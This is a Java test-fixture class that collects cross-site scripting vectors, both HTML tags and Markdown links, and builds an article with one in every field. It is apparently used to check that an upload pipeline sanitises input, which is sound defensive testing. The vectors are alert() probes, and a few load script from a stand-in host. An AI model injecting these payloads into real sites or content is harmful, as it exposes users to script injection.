package dev.aiwire.admin;

import java.util.List;

/**
 * Script injection attempts an uploader could make, after the OWASP XSS Filter Evasion
 * Cheat Sheet and the classic Markdown link tricks, and the article that carries them in
 * every field.
 */
final class XssVectors {

	/** Raw HTML in the body, each on its own. */
	static final List<String> HTML = List.of("<script>alert('xss-1')</script>",
			"<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>", "<IMG SRC=\"javascript:alert('xss-2');\">",
			"<IMG SRC=JaVaScRiPt:alert('xss-3')>",
			"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#52;&#41;>",
			"<IMG SRC=\"jav&#x09;ascript:alert('xss-5');\">", "<img src=x onerror=\"alert('xss-6')\">",
			"<svg/onload=alert('xss-7')>", "<BODY ONLOAD=alert('xss-8')>",
			"<iframe src=\"javascript:alert('xss-9')\"></iframe>", "<a href=\"javascript:alert('xss-10')\">clic</a>",
			"<div style=\"background-image: url(javascript:alert('xss-11'))\">fond</div>",
			"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=\"></object>",
			"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('xss-13');\">",
			"<<SCRIPT>alert(\"xss-14\");//\\<</SCRIPT>", "<IMG \"\"\"><SCRIPT>alert(\"xss-15\")</SCRIPT>\"\\>",
			"<a href=\"&#x6A;avascript:alert('xss-16')\">clic</a>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-17')>",
			"<details open ontoggle=alert('xss-18')>", "<input autofocus onfocus=alert('xss-19')>",
			"<form action=\"javascript:alert('xss-20')\"><button>go</button></form>",
			"<base href=\"https://xss.example/\">", "<embed src=\"data:text/html,<script>alert('xss-21')</script>\">",
			"<p style=\"x:expression(alert('xss-22'))\">ie</p>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert('xss-23')>\">");

	/** Markdown links, images and autolinks to script, data and vbscript addresses. */
	static final List<String> MARKDOWN = List.of("[inline](javascript:alert('md-1'))",
			"[casse](JaVaScRiPt:alert('md-2'))", "[entité](javascript&#58;alert('md-3'))",
			"![image](javascript:alert('md-4'))",
			"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbWQtNScpPC9zY3JpcHQ+)",
			"![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ21kLTYnKT4=)", "[vb](vbscript:msgbox('md-7'))",
			"[référence][piege]\n\n[piege]: javascript:alert('md-8')",
			"![image-ref][piege-img]\n\n[piege-img]: vbscript:msgbox('md-9')", "<javascript:alert('md-10')>",
			"<vbscript:msgbox('md-11')>", "[chevrons](<javascript:alert('md-12')>)",
			"[espaces](   javascript:alert('md-13'))", "[tab](java\tscript:alert('md-14'))",
			"[attribut](https://example.com){onclick=\"alert('md-15')\"}",
			"Paragraphe piégé.\n{onmouseover=\"alert('md-16')\"}",
			"[titre](https://example.com \"\\\" onmouseover=alert('md-17') x=\\\"\")");

	/**
	 * A value for a front matter field: closes an attribute, then an element, then opens
	 * a script.
	 */
	static final String FIELD = "\"'><script>alert('field')</script><img src=x onerror=alert('field')>";

	private XssVectors() {
	}

	/**
	 * An article with a vector in every field an uploader controls, and all the others in
	 * its body.
	 */
	static Uploads article() {
		StringBuilder body = new StringBuilder("Le lead, avec <b onclick=\"alert('lead')\">du gras</b>.\n\n");
		body.append(
				"<img src=x onerror=alert('speaker')> a déclaré :\n\n> « Nous ne publierons rien de dangereux, jamais. »\n\n");
		body.append("> « Une deuxième citation, signée. »\n> — <svg onload=alert('attribution')>\n\n");
		body.append("## <img src=x onerror=alert('heading')> Titre de section\n\n");
		for (String vector : HTML) {
			body.append(vector).append("\n\n");
		}
		for (String vector : MARKDOWN) {
			body.append(vector).append("\n\n");
		}
		return Uploads.article()
			.title("Titre " + FIELD)
			.source("36Kr " + FIELD)
			.url("https://36kr.example/p/1?q=\"><script>alert('url')</script>")
			.field("summary: " + Uploads.yaml("Résumé " + FIELD))
			.field("translator: " + Uploads.yaml("Claire " + FIELD))
			.field("author: " + Uploads.yaml("Li Wei " + FIELD))
			.field("original_title: " + Uploads.yaml("原标题 " + FIELD))
			.field("translation_key: " + Uploads.yaml("cle-" + FIELD))
			.tags("[\"<script>alert('tag')</script>\", \"<img src=x onerror=alert('tag')>\"]")
			.body(body.toString());
	}

}
